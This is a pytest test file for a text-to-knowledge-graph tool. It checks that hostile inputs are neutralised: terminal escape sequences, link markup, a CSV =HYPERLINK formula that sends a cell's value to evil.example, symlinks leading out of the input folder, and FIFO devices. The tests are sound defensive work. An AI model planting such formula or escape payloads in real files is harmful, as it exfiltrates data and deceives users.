"""Hostile inputs and output folders (issue 13): nothing leaks to the terminal or the spreadsheet, nothing
outside the inputs is read, no run is overwritten or mixed with another, and input that is only unusual
is read right. Inputs are tiny and written here; names appear in no corpus."""

from __future__ import annotations

import contextlib
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import networkx as nx
import pytest

from pipeline.api import load
from pipeline.ingest import ingest
from pipeline.io import csvfile
from pipeline.io.folder import MANIFEST, manifest_text, output_kind, present, staged
from pipeline.io.run import write_graph
from pipeline.records import Extraction, Mention

KG = str(Path(sys.executable).parent / "kg")
TERMINAL_ATTACK = "\u001b]0;PWNED\u0007\u001b[2J"
LINK_MARKUP = "[link=https://evil.example/]click me[/link]"


def _articles(folder: Path) -> list[dict[str, str]]:
    return list(csvfile.read_csv(folder / "articles.csv"))


def _tiny_graph() -> nx.Graph:
    graph = nx.Graph()
    for rank, (node, label) in enumerate(
        [("person:ilse-varga", "Ilse Varga"), ("place:tarnow", "Tarnow"), ("group:orvo", "Orvo Union")]
    ):
        graph.add_node(node, label=label, type=node.split(":")[0], aliases="", mentions=rank + 1, articles=1)
        graph.nodes[node].update(pagerank=0.1 * (rank + 1), community=0, component=0)
    graph.add_edge("person:ilse-varga", "place:tarnow", weight=2, articles=1, npmi=0.5, evidence_list=[])
    graph.add_edge("group:orvo", "place:tarnow", weight=1, articles=1, npmi=0.2, evidence_list=[])
    return graph


def _tiny_run(folder: Path) -> Path:
    """A finished run's graph files and manifest, without the model."""
    write_graph(_tiny_graph(), folder)
    counts = {stage: {} for stage in ("ingest", "extract", "resolve", "graph")}
    (folder / MANIFEST).write_text(manifest_text({"kind": "run", "counts": counts}), encoding="utf-8")
    return folder


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# --- 1. input-derived text is printed as plain text ---------------------------------------------------


def test_hostile_keys_and_reasons_print_as_plain_text(kg, write, tmp_path: Path) -> None:
    write(
        "in/feed.jsonl",
        json.dumps({TERMINAL_ATTACK: 1, LINK_MARKUP: 2, "[/]": 3})
        + "\n"
        + json.dumps({"text": "Fine body."}),
    )
    result = kg("ingest", tmp_path / "in", "--out", tmp_path / "out")
    assert result.code == 0, result.stderr
    assert LINK_MARKUP in result.stderr and "[/]" in result.stderr  # shown as written, not as markup
    assert "\x1b" not in result.stderr + result.stdout and "\x07" not in result.stderr + result.stdout
    assert "]0;PWNED" in result.stderr  # the visible rest of the key is still named


def test_markup_in_out_paths_and_entity_names_is_plain_text(kg, write, tmp_path: Path) -> None:
    write("in/a.txt", "Title\nBody of the story.")
    result = kg("ingest", tmp_path / "in", "--out", tmp_path / "x[/]y")
    assert result.code == 0, result.stderr
    assert f"Wrote {tmp_path / 'x[/]y'}/" in result.stdout
    run = _tiny_run(tmp_path / "run")
    missing = kg("ego", "[/]", "--graph", run, "--out", tmp_path / "e")
    assert missing.code == 2 and "no entity named '[/]'" in missing.stderr


def test_stats_prints_hostile_labels_as_text(kg, tmp_path: Path) -> None:
    graph = _tiny_graph()
    graph.nodes["person:ilse-varga"]["label"] = f"{LINK_MARKUP} [/] {TERMINAL_ATTACK}"
    write_graph(graph, tmp_path / "run")
    result = kg("stats", tmp_path / "run")
    assert result.code == 0, result.stderr
    assert "[/]" in result.stdout and "[link=" in result.stdout and "\x1b" not in result.stdout


# --- 2. CSV header cells are formula-guarded ----------------------------------------------------------


def test_header_cells_from_inputs_are_formula_guarded(kg, write, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    write("in/sheet.csv", 'title,text,"=HYPERLINK(""http://evil.example/?""&A2,""open"")"\nT,Body one.,x\n')
    write("in/feed.jsonl", json.dumps({"text": "Body two.", "=cmd": "y", "@sum": "z"}))
    result = kg("ingest", tmp_path / "in", "--out", tmp_path / "out")
    assert result.code == 0, result.stderr
    header = (tmp_path / "out" / "articles.csv").read_text(encoding="utf-8").splitlines()[0]
    cells = next(__import__("csv").reader([header]))
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@"}], cells
    assert {"'=cmd", "'@sum", "'" + formula} <= set(cells)
    metadata = {key for a in load(tmp_path / "out").corpus.articles for key, _ in a.metadata}
    assert {"=cmd", "@sum", formula} <= metadata  # read back exactly


# --- 3. symbolic links stay inside the inputs ---------------------------------------------------------


def test_links_leading_out_of_the_inputs_are_not_followed(write, tmp_path: Path) -> None:
    write("elsewhere/secret.txt", "Secret\nPrivate notes of Ilse Varga.")
    write("corpus/inside/story.txt", "Story\nA story from Tarnow.")
    write("corpus/real.txt", "Real\nA real story.")
    corpus_dir = tmp_path / "corpus"
    (corpus_dir / "x").symlink_to(tmp_path / "elsewhere")
    (corpus_dir / "leak.txt").symlink_to(tmp_path / "elsewhere" / "secret.txt")
    (corpus_dir / "up").symlink_to(tmp_path)  # like corpus/root -> /
    (corpus_dir / "alias").symlink_to(corpus_dir / "inside")  # stays inside: followed
    corpus = ingest([corpus_dir])
    assert sorted(a.body for a in corpus.articles) == ["A real story.", "A story from Tarnow."]
    reasons = {Path(s.source).name: s.reason for s in corpus.skipped}
    assert set(reasons) == {"x", "leak.txt", "up"}
    assert all("outside the inputs" in r and "--follow-links" in r for r in reasons.values())
    followed = ingest([corpus_dir], follow_links=True)
    assert "Private notes of Ilse Varga." in {a.body for a in followed.articles}


# --- 4. regular files only, with a size cap -----------------------------------------------------------

_INGEST_ONE = (
    "import sys; from pipeline.ingest import ingest; c = ingest(sys.argv[1:]); "
    "print([s.reason for s in c.skipped], 'files read:', list(c.files))"
)


def _bounded_ingest(*paths: Path) -> subprocess.CompletedProcess[str]:
    """ingest() in a child with 1 GB of address space and 60 s: a hang or a read without end fails."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    return subprocess.run(
        [sys.executable, "-c", _INGEST_ONE, *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=limit,
    )


def test_a_fifo_or_device_named_directly_is_skipped_not_read(write, tmp_path: Path) -> None:
    fifo = tmp_path / "f.txt"
    os.mkfifo(fifo)
    zero = tmp_path / "z.txt"
    zero.symlink_to("/dev/zero")
    bare = tmp_path / "zero"  # no suffix: a device, not "an unsupported file type '(none)'"
    bare.symlink_to("/dev/null")
    good = write("good.txt", "Good\nGood body.")
    try:
        done = _bounded_ingest(fifo, zero, bare, good)
    except subprocess.TimeoutExpired:
        pytest.fail("ingest hung on a FIFO")
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("not a regular file") == 3, done.stdout
    assert "a FIFO" in done.stdout and "a character device" in done.stdout
    # skipped, not read: "Read N file(s)" and manifest.json's files name the good file only
    assert done.stdout.rstrip().endswith(f"files read: [{str(good)!r}]"), done.stdout


@pytest.mark.model
def test_a_run_with_its_cache_skips_a_fifo_named_directly_and_keeps_the_good_file(
    write, tmp_path: Path
) -> None:
    # the run's fingerprint read every input before ingest could skip it: a FIFO blocked it for good
    fifo = tmp_path / "f.txt"
    os.mkfifo(fifo)
    good = write("good.txt", "Harbour talks\n\nIlse Varga met Tomas Brandl in Quellmark on Monday.")
    environment = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
    try:
        done = subprocess.run(
            [sys.executable, "-m", "pipeline.cli", "run", str(fifo), str(good), "--out", str(tmp_path / "out")],
            capture_output=True, text=True, timeout=120, env=environment,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        pytest.fail("kg run hung on a FIFO")
    assert done.returncode == 0, done.stderr
    assert "f.txt: not a regular file (a FIFO)" in done.stdout + done.stderr
    assert "1 kept" in done.stdout and (tmp_path / "out" / "nodes.csv").exists()


def test_special_files_in_a_folder_are_skipped(write, tmp_path: Path) -> None:
    write("in/good.txt", "Good\nGood body.")
    os.mkfifo(tmp_path / "in" / "pipe.txt")
    (tmp_path / "in" / "zero.csv").symlink_to("/dev/zero")
    corpus = ingest([tmp_path / "in"], follow_links=True)  # even where links are followed
    assert [a.body for a in corpus.articles] == ["Good body."]
    assert sorted((Path(s.source).name, s.reason) for s in corpus.skipped) == [
        ("pipe.txt", "not a regular file (a FIFO); only regular files are read"),
        ("zero.csv", "not a regular file (a character device); only regular files are read"),
    ]
    assert [Path(f).name for f in corpus.files] == ["good.txt"]


def test_files_over_the_size_cap_are_skipped_and_reported(kg, write, tmp_path: Path) -> None:
    write("in/big.txt", "Big\n" + "Words of a long story. " * 60_000)  # 1.4 MB
    write("in/small.txt", "Small\nA short story.")
    result = kg("ingest", tmp_path / "in", "--out", tmp_path / "out", "--max-file-mb", "1")
    assert result.code == 0, result.stderr
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text())
    [skipped] = manifest["skipped"]
    assert skipped["source"].endswith("big.txt") and "file too large (1.4 MB" in skipped["reason"]
    assert manifest["settings"]["max_file_mb"] == 1
    assert "big.txt" in result.stderr and "--max-file-mb" in result.stderr
    assert [a["body"] for a in _articles(tmp_path / "out")] == ["A short story."]
    assert len(ingest([tmp_path / "in"]).articles) == 2  # the default cap (256 MB) reads both


# --- 5./6. kg ego never overwrites a run; --force removes only kg's own temporaries -------------------


def test_ego_takes_its_run_first_as_stats_does_or_by_graph(kg, tmp_path: Path) -> None:
    run = _tiny_run(tmp_path / "run")
    first = kg("ego", run, "Ilse Varga", "--out", tmp_path / "first")
    assert first.code == 0, first.stderr
    by_option = kg("ego", "Ilse Varga", "--graph", run, "--out", tmp_path / "option")
    assert by_option.code == 0, by_option.stderr
    assert _snapshot(tmp_path / "first").keys() == _snapshot(tmp_path / "option").keys()
    nodes = [list(csvfile.read_csv(tmp_path / name / "nodes.csv")) for name in ("first", "option")]
    assert nodes[0] == nodes[1] and {r["id"] for r in nodes[0]} == {"person:ilse-varga", "place:tarnow"}
    twice = kg("ego", run, "Ilse Varga", "--graph", run)
    assert twice.code == 2 and "kg ego takes its run once" in twice.stderr
    alone = kg("ego", "Ilse Varga")
    assert alone.code == 2 and "kg ego needs a run and a name: kg ego RUN_DIR 'Ilse Varga'" in alone.stderr


def test_ego_refuses_a_run_folder_and_replaces_its_own_output(kg, tmp_path: Path) -> None:
    run = _tiny_run(tmp_path / "run")
    before = _snapshot(run)
    into_run = kg("ego", "Tarnow", "--graph", run, "--out", run)
    assert into_run.code == 2 and "holds a kg run" in into_run.stderr
    other_run = _tiny_run(tmp_path / "other")
    assert kg("ego", "Tarnow", "--graph", run, "--out", other_run, "--force").code == 2
    assert _snapshot(run) == before
    assert kg("ego", "Tarnow", "--graph", run).code == 0
    again = kg("ego", "Ilse Varga", "--graph", run)  # a second time into the default RUN/ego
    assert again.code == 0, again.stderr
    assert {r["id"] for r in csvfile.read_csv(run / "ego" / "nodes.csv")} == {
        "person:ilse-varga",
        "place:tarnow",
    }
    assert output_kind(run / "ego") == "ego"
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "notes.md").write_text("mine")
    assert kg("ego", "Tarnow", "--graph", run, "--out", tmp_path / "mine").code == 2
    forced = kg("ego", "Tarnow", "--graph", run, "--out", tmp_path / "mine", "--force")
    assert forced.code == 0, forced.stderr
    assert (tmp_path / "mine" / "notes.md").read_text() == "mine"


def test_force_removes_only_the_projects_own_temporaries(kg, write, tmp_path: Path) -> None:
    write("in/a.txt", "Title\nBody of the story.")
    out = tmp_path / "out"
    kept = ["notes.tmp", ".draft.tmp", ".thesis.docx.0123456789abcdef.tmp", ".nodes.csv.123.tmp"]
    for name in kept:
        write(f"out/{name}", "precious")
    write("out/.nodes.csv.0123456789abcdef.tmp", "left by a killed kg run")
    assert kg("ingest", tmp_path / "in", "--out", out, "--force").code == 0
    assert sorted(p.name for p in out.iterdir() if p.name.endswith(".tmp")) == sorted(kept)


# --- 7. a run folder inside an input folder is not read as input --------------------------------------


def test_a_run_nested_in_its_input_folder_is_left_out(kg, write, tmp_path: Path) -> None:
    write("nest/a.txt", "First\nThe first story from Tarnow.")
    write("nest/b.txt", "Second\nThe second story about Orvo.")
    for _ in range(2):
        result = kg("ingest", tmp_path / "nest", "--out", tmp_path / "nest" / "other")
        assert result.code == 0, result.stderr
    for _ in range(2):  # the run's own --out is where it writes: left out without a word
        result = kg("ingest", tmp_path / "nest", "--out", tmp_path / "nest" / "kg")
        assert result.code == 0, result.stderr
    assert len(_articles(tmp_path / "nest" / "kg")) == 2
    assert "Left out 1 folder(s) holding an earlier kg run" in result.stdout
    assert f"{tmp_path / 'nest' / 'other'}: it holds an earlier kg run" in result.stderr
    manifest = json.loads((tmp_path / "nest" / "kg" / "manifest.json").read_text())
    assert manifest["runs_left_out"] == [str(tmp_path / "nest" / "other")]


def test_out_that_is_the_input_folder_says_so(kg, write, tmp_path: Path) -> None:
    # it said "no supported input files in nest", of a folder holding two
    write("nest/a.txt", "First\nThe first story from Tarnow.")
    write("nest/b.txt", "Second\nThe second story about Orvo.")
    for force in ((), ("--force",)):  # without --force, not "is not empty ... pass --force" first
        result = kg("ingest", tmp_path / "nest", "--out", tmp_path / "nest", *force)
        assert result.code == 2
        assert f"--out {tmp_path / 'nest'} is the input folder" in result.stderr
    assert sorted(p.name for p in (tmp_path / "nest").iterdir()) == ["a.txt", "b.txt"]


@pytest.mark.model
def test_a_second_run_into_a_folder_inside_its_inputs_reuses_the_first(kg, write, tmp_path: Path) -> None:
    write("nest/a.txt", "First\nIlse Varga met Odo Brann in Tarnow.")
    out = tmp_path / "nest" / "kg"
    assert kg("run", tmp_path / "nest", "--out", out, "-q").code == 0
    again = kg("run", tmp_path / "nest", "--out", out, "-q")
    assert again.code == 0 and "Nothing changed since the run in this folder" in again.stdout


# --- 8. a stage command invalidates the later stages of an older run ----------------------------------


@pytest.mark.model
def test_a_stage_into_an_older_run_removes_its_later_files(kg, seed_run: Path, write, tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(seed_run, run)
    write("other.txt", "Other\nIlse Varga visited Tarnow.")
    assert kg("ingest", tmp_path / "other.txt", "--out", run).code == 0
    assert sorted(p.name for p in run.iterdir() if p.is_file()) == ["articles.csv", "manifest.json"]
    stats = kg("stats", run)
    assert stats.code == 2 and "edges.csv not found" in stats.stderr
    resolved = kg("resolve", run)
    assert (
        resolved.code == 2 and "mentions.csv not found" in resolved.stderr and "kg extract" in resolved.stderr
    )


@pytest.mark.model
def test_readers_refuse_files_the_manifest_does_not_vouch_for(kg, seed_run: Path, tmp_path: Path) -> None:
    legacy = tmp_path / "legacy"  # written before manifests listed their files: counts say what ran
    shutil.copytree(seed_run, legacy)
    manifest = json.loads((legacy / "manifest.json").read_text())
    del manifest["outputs"]
    manifest["counts"] = {"ingest": manifest["counts"]["ingest"]}
    (legacy / "manifest.json").write_text(json.dumps(manifest))
    stats = kg("stats", legacy)
    assert (
        stats.code == 2 and "edges.csv is from an earlier run" in stats.stderr and "kg graph" in stats.stderr
    )
    assert kg("resolve", legacy).code == 2
    edited = tmp_path / "edited"
    shutil.copytree(seed_run, edited)
    with (edited / "edges.csv").open("a", encoding="utf-8") as handle:
        handle.write("person:x,person:y,1,1,,0,,0,\n")
    changed = kg("stats", edited)
    assert changed.code == 2 and "edges.csv has changed since the run wrote it" in changed.stderr


@pytest.mark.model
def test_graph_then_export_keep_the_manifest_true(kg, seed_run: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(seed_run, run)
    assert kg("graph", run, "--min-weight", "2").code == 0
    assert not (run / "graph.html").exists()  # drawn from the old graph: gone with it
    assert kg("export", run).code == 0
    outputs = json.loads((run / "manifest.json").read_text())["outputs"]
    assert {"graph.html", "graph.graphml", "articles.csv", "mentions.csv"} <= set(outputs)
    assert outputs["graph.html"]["bytes"] == (run / "graph.html").stat().st_size
    assert kg("stats", run).code == 0


# --- 9. the output folder is checked first; a failed save leaves the previous run -------------------


def test_out_that_is_a_file_is_refused_before_any_work(kg, write, tmp_path: Path) -> None:
    write("in/a.txt", "Title\nBody.")
    write("taken.txt", "a file")
    # An uninstalled model would fail the moment extraction starts: the folder check comes first.
    result = kg("run", tmp_path / "in", "--out", tmp_path / "taken.txt", "--model", "no_such_model_x")
    assert result.code == 2 and "is a file, not a folder" in result.stderr
    under = kg("run", tmp_path / "in", "--out", tmp_path / "taken.txt" / "sub", "--model", "no_such_model_x")
    assert under.code == 2 and "is a file, not a folder" in under.stderr


@contextlib.contextmanager
def _read_only(folder: Path):
    """A folder nobody can write into, root included (immutable when root, mode 555 otherwise)."""
    folder.mkdir(parents=True, exist_ok=True)
    root = os.geteuid() == 0
    if root:
        subprocess.run(["chattr", "+i", str(folder)], check=True, capture_output=True)
    else:
        folder.chmod(0o555)
    try:
        with pytest.raises(OSError):
            (folder / "probe").write_text("x")
        yield folder
    finally:
        if root:
            subprocess.run(["chattr", "-i", str(folder)], check=False, capture_output=True)
        else:
            folder.chmod(0o755)


def test_read_only_out_is_refused_before_any_work(kg, write, tmp_path: Path) -> None:
    write("in/a.txt", "Title\nBody.")
    with _read_only(tmp_path / "locked") as locked:
        result = kg("run", tmp_path / "in", "--out", locked, "--model", "no_such_model_x")
        assert result.code == 2 and "cannot be written" in result.stderr, result.stderr
        nested = kg("run", tmp_path / "in", "--out", locked / "new", "--model", "no_such_model_x")
        assert nested.code == 2 and "cannot be written" in nested.stderr
        assert not list(locked.iterdir())


def _limited_files(size: int):
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))  # writing past it fails with EFBIG

    return limit


@pytest.mark.model
def test_a_save_that_fails_midway_leaves_the_previous_run_whole(write, tmp_path: Path) -> None:
    write("one/a.txt", "First\nIlse Varga met the Orvo Union in Tarnow on Monday.")
    write("two/b.txt", "Second\nThe Orvo Union left Tarnow, and Ilse Varga stayed in Lodzen.")
    out = tmp_path / "out"
    first = subprocess.run([KG, "run", str(tmp_path / "one"), "--out", str(out), "--no-cache", "-q"], capture_output=True, text=True)  # fmt: skip
    assert first.returncode == 0, first.stderr
    before = _snapshot(out)
    # The page is about 900 kB: every CSV of the second run fits under the limit, the page does not.
    second = subprocess.run(
        [KG, "run", str(tmp_path / "two"), "--out", str(out), "--no-cache", "-q"],
        capture_output=True,
        text=True,
        preexec_fn=_limited_files(400_000),
    )
    assert _snapshot(out) == before  # no new CSV beside the old page and manifest
    assert second.returncode == 1, second.stderr
    assert "cannot write the run into" in second.stderr and "left as it was" in second.stderr
    assert kg_stats_ok(out)


def kg_stats_ok(run: Path) -> bool:
    return subprocess.run([KG, "stats", str(run)], capture_output=True).returncode == 0


def test_a_first_save_cut_short_is_not_a_foreign_folder(kg, write, tmp_path: Path) -> None:
    write("in/a.txt", "Title\nBody of the story.")
    write("out/articles.csv", "article_id\n")  # renamed into place before the crash; no manifest yet
    write("out/.mentions.csv.0123456789abcdef.tmp", "half")
    result = kg("ingest", tmp_path / "in", "--out", tmp_path / "out")
    assert result.code == 0, result.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["articles.csv", "manifest.json"]


def test_manifest_is_written_last_and_names_every_file(kg, write, tmp_path: Path) -> None:
    write("in/a.txt", "Title\nBody of the story.")
    assert kg("ingest", tmp_path / "in", "--out", tmp_path / "out").code == 0
    outputs = json.loads((tmp_path / "out" / "manifest.json").read_text())["outputs"]
    data = (tmp_path / "out" / "articles.csv").read_bytes()
    import hashlib

    assert outputs == {"articles.csv": {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "out"]  # nothing beside --out


def test_an_interrupted_commit_is_refused_by_readers(write, tmp_path: Path) -> None:
    """A crash between the renames of a commit (milliseconds) leaves new files under the old manifest:
    readers see the mismatch and refuse, naming the file."""
    from pipeline.errors import StaleOutputError

    run = tmp_path / "run"
    write_graph(_tiny_graph(), run)
    with staged(run) as staging:
        write_graph(_tiny_graph(), run)
        staging.commit({"kind": "run", "counts": {}})
    assert present(run, "edges.csv")
    (run / "edges.csv").write_text("source,target,weight\n", encoding="utf-8")
    with pytest.raises(StaleOutputError, match="edges.csv has changed since the run wrote it"):
        present(run, "edges.csv")


# --- 10. crashes that are not per-article -------------------------------------------------------------


def test_lone_surrogates_and_huge_or_deep_json_do_not_stop_a_run(kg, write, tmp_path: Path) -> None:
    lines = [
        '{"title": "Split \\ud83d", "text": "A body cut at \\ud83d an emoji.", "note\\ud83d": "x\\udc00"}',
        '{"text": "A body with a long id.", "id": ' + "7" * 5000 + "}",
        "[" * 100_000 + "]" * 100_000,
        '{"text": "Third body."}',
    ]
    write("in/feed.jsonl", "\n".join(lines))
    result = kg("ingest", tmp_path / "in", "--out", tmp_path / "out")
    assert result.code == 0, result.stderr
    rows = _articles(tmp_path / "out")
    assert [r["body"] for r in rows] == [
        "A body cut at \ufffd an emoji.",
        "A body with a long id.",
        "Third body.",
    ]
    assert rows[0]["title"] == "Split \ufffd" and rows[0]["note\ufffd"] == "x\ufffd"
    assert rows[1]["id"] == "7" * 5000
    reasons = json.loads((tmp_path / "out" / "manifest.json").read_text())["skipped"]
    assert [r["reason"] for r in reasons] == ["JSON nested too deeply to read"]


def test_a_file_name_that_is_not_utf8_is_shown_and_written(kg, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    fd = os.open(os.fsencode(folder) + b"/caf\xe9.txt", os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(fd, b"Cafe\nA story from a cafe in Tarnow.")
    os.close(fd)
    result = kg("ingest", folder, "--out", tmp_path / "out")
    assert result.code == 0, result.stderr
    [row] = _articles(tmp_path / "out")
    assert row["source"] == str(folder / "caf\ufffd.txt")
    assert json.loads((tmp_path / "out" / "manifest.json").read_text())["files"] == [row["source"]]


def test_cache_takes_a_lone_surrogate(tmp_path: Path) -> None:
    from pipeline.cache import Cache
    from pipeline.records import Extraction, Mention, Sentence

    extraction = Extraction(
        "a", (Sentence("a", 0, 0, 9, 0),), (Mention("a", 0, 0, 5, "Ilse\ud83d", "PERSON", "person"),), (), ()
    )
    with Cache(tmp_path) as cache:
        cache.put_many([("k", extraction)], model="m")
        assert cache.get_many({"a": "k"})["a"] == extraction


def test_non_finite_numbers_are_written_and_read_back(tmp_path: Path) -> None:
    path = tmp_path / "numbers.csv"
    csvfile.write_csv(path, ["a", "b", "c", "d"], [[float("inf"), float("-inf"), float("nan"), 2.5]])
    assert path.read_text().splitlines()[1] == "inf,-inf,nan,2.5"
    [row] = csvfile.read_csv(path)
    assert float(row["a"]) == float("inf") and float(row["b"]) == float("-inf") and row["c"] == "nan"


# --- 11. inputs that were misread ---------------------------------------------------------------------


def test_duplicate_csv_columns_are_renamed_not_lost(write) -> None:
    path = write("dup.csv", "title,text,text,text_2\nT,First body.,Second body.,Third\n")
    [article] = ingest([path]).articles
    assert article.body == "First body."
    assert dict(article.metadata) == {"text_3": "Second body.", "text_2": "Third"}


def test_a_stray_nul_byte_does_not_make_a_csv_binary(write) -> None:
    path = write("nul.csv", b"title,text\nOne,First body.\nTwo,Second\x00 body.\n")
    assert [a.body for a in ingest([path]).articles] == ["First body.", "Second body."]


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_utf16_and_utf32_without_bom_are_detected(write, encoding: str) -> None:
    path = write("wide.txt", "Tarnow\nIlse Varga spoke in Tarnow, niña.".encode(encoding))
    corpus = ingest([path])
    assert [a.body for a in corpus.articles] == ["Ilse Varga spoke in Tarnow, niña."]
    assert corpus.encodings == ((str(path), encoding),)


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("cp1252", "Café\nJosé Núñez met officials in Zürich; “España” won."),
        ("cp1256", "عنوان\nالتقى المسؤولون في بغداد يوم الاثنين مع وفد من الحكومة."),
        ("koi8_r", "Заголовок\nЧиновники встретились в Москве в понедельник с делегацией."),
        ("shift_jis", "見出し\n月曜日に東京で政府の代表団と役人が会談した。"),
        ("gbk", "标题\n官员们星期一在北京与政府代表团举行了会谈。"),
        ("utf-16", "Title\nA wide body with a byte-order mark."),
        ("utf-32", "Title\nA wider body with a byte-order mark."),
    ],
)
def test_legacy_and_bom_encodings_still_hold(write, encoding: str, text: str) -> None:
    path = write("page.txt", text.encode(encoding))
    [article] = ingest([path]).articles
    assert article.body == text.split("\n", 1)[1]


@pytest.mark.parametrize(
    "page",
    [
        "<h1>Talks</h1><p>First paragraph.<p>Second paragraph.<div>Box</div><p>Third paragraph.",
        "<header><a href=/>Home</a><h1>Talks</h1><p>First paragraph.<p>Second paragraph.<p>Third paragraph.",
        "<nav><a href=/>Home</a></nav><h1>Talks</h1><aside><p>First paragraph.</p><p>Second paragraph.</p>"
        "<p>Third paragraph.",
        "<body><nav><ul><li>Home<li>World</ul><h1>Talks</h1><p>First paragraph.<p>Second paragraph.</p>"
        "<p>Third paragraph.</body>",
    ],
)
def test_html_implied_paragraph_ends_and_unclosed_furniture(write, page: str) -> None:
    [article] = ingest([write("page.html", page)]).articles
    assert article.title == "Talks"
    assert article.body == "First paragraph.\n\nSecond paragraph.\n\nThird paragraph."


def test_html_closed_furniture_and_table_cells(write) -> None:
    page = (
        "<header><p>Site name</p></header><h1>Talks</h1><p>Lead<table><tr><td><p>Cell one<td><p>Cell two"
        "</table><p>After<footer><p>Copyright</p></footer><aside>Related<p>Other story</p></aside>"
    )
    [article] = ingest([write("page.html", page)]).articles
    assert article.body == "Lead\n\nCell one\n\nCell two\n\nAfter"


def test_html_deep_nesting_is_linear(write) -> None:
    page = "<p>Start" + "<table>" + "<b>" * 100_000 + "<div>x</div>" * 50_000 + "<p>End"
    started = time.perf_counter()
    [article] = ingest([write("deep.html", page)]).articles
    assert time.perf_counter() - started < 20  # quadratic would be hours
    assert article.body.startswith("Start")


# --- 12. names: invisible characters, emoji, non-Latin scripts ----------------------------------------


def article(article_id: str, *names: str) -> Extraction:
    """An extraction whose mentions are the people ``names``."""
    mentions, offset = [], 0
    for index, text in enumerate(names):
        mentions.append(Mention(article_id, index, offset, offset + len(text), text, "PERSON", "person"))
        offset += len(text) + 1
    return Extraction(article_id, (), tuple(mentions), (), ())


def test_soft_hyphen_and_emoji_do_not_make_new_nodes_or_labels() -> None:
    from pipeline.resolve import resolve

    result = resolve(
        [
            article("a", "Ilse Var\u00adga", "Ilse Varga", "Orvo Kal\u200bman"),
            article("b", "Orvo Kalman \U0001f1eb", "Orvo Kalman \U0001f1eb", "Orvo Kalman"),
        ],
        aliases=None,
    )
    labels = {e.label: e for e in result.entities}
    assert set(labels) == {"Ilse Varga", "Orvo Kalman"}
    assert labels["Orvo Kalman"].node_id == "person:orvo-kalman"
    assert "\U0001f1eb" not in "".join(labels["Orvo Kalman"].aliases)


def test_ingest_removes_invisible_characters(write) -> None:
    path = write("a.txt", "Title\nIlse Var\u00adga met \u202eOrvo\u202c in Tar\u200bnow.\ufeff")
    assert ingest([path]).articles[0].body == "Ilse Varga met Orvo in Tarnow."


def test_non_latin_names_get_stable_readable_ids() -> None:
    from pipeline.resolve import resolve

    names = ["Владимир Оркин", "Сергей Валин", "محمد الوردي", "李明华", "山田太郎"]
    first = {e.label: e.node_id for e in resolve([article("a", *names)], aliases=None).entities}
    assert first == {
        "Владимир Оркин": "person:vladimir-orkin",
        "Сергей Валин": "person:sergei-valin",
        "محمد الوردي": "person:mhmd-lwrdy",
        "李明华": "person:liminghua",
        "山田太郎": "person:shantiantailang",
    }
    fewer = resolve([article("b", "Сергей Валин", "李明华")], aliases=None)
    assert {e.label: e.node_id for e in fewer.entities} == {k: first[k] for k in ("Сергей Валин", "李明华")}


# --- 13. near duplicates are confirmed with the exact similarity --------------------------------------


def test_a_minhash_false_positive_is_not_a_duplicate() -> None:
    from pipeline.dedup import deduplicate
    from pipeline.records import Article

    # Word 5-shingles: exact Jaccard 3/7 = 0.43, MinHash estimate 0.50 (at the threshold).
    one = "zulu whiskey yankee golf papa foxtrot november zulu uniform"
    two = "zulu kilo yankee golf papa foxtrot november zulu uniform"
    articles = [Article(f"id{i}", f"s{i}", i, "", body) for i, body in enumerate([one, two])]
    assert [a.duplicate_of for a in deduplicate(articles)] == ["", ""]
    near = one + " tango sierra romeo"
    again = deduplicate([*articles, Article("id9", "s9", 9, "", near)])
    # exact: 5/8; the longer copy is the one kept
    assert [(a.duplicate_of, a.similarity) for a in again] == [("id9", 0.625), ("", 0.0), ("", 0.0)]


# --- 14. the small ones -------------------------------------------------------------------------------


def test_jsonl_text_must_be_text(write) -> None:
    path = write(
        "feed.jsonl",
        "\n".join(
            [
                json.dumps({"text": {"en": "Hello", "fr": "Bonjour"}}),
                json.dumps({"text": 12345}),
                json.dumps({"text": True}),
                json.dumps({"text": [{"p": "a"}, {"p": "b"}]}),  # a list of strings is paragraphs
                "\ufeff" + json.dumps({"text": "After a stray byte-order mark."}),
            ]
        ),
    )
    corpus = ingest([path])
    assert [a.body for a in corpus.articles] == ["After a stray byte-order mark."]
    reasons = [s.reason for s in corpus.skipped]
    assert "holds an object (fields inside it: en, fr), not text" in reasons[0]
    assert reasons[1:] == [
        "field 'text' holds 12345, not text",
        "field 'text' holds true, not text",
        "field 'text' holds a list of objects, not text; name the text field with --text-field "
        "(text_field= in Python)",
    ]


def test_stats_limit_must_not_be_negative(kg, tmp_path: Path) -> None:
    run = _tiny_run(tmp_path / "run")
    result = kg("stats", run, "--limit", "-1")
    assert result.code == 2 and "--limit" in result.stderr
    assert kg("stats", run, "--limit", "0").code == 0


def test_eval_names_a_malformed_gold_file(kg, tmp_path: Path) -> None:
    run = _tiny_run(tmp_path / "run")
    gold = tmp_path / "gold.yml"
    gold.write_text("entities: [unclosed\n  - {name: x", encoding="utf-8")
    result = kg("eval", run, "--gold", gold)
    assert result.code == 2 and f"{gold}: not a valid YAML gold annotation" in result.stderr


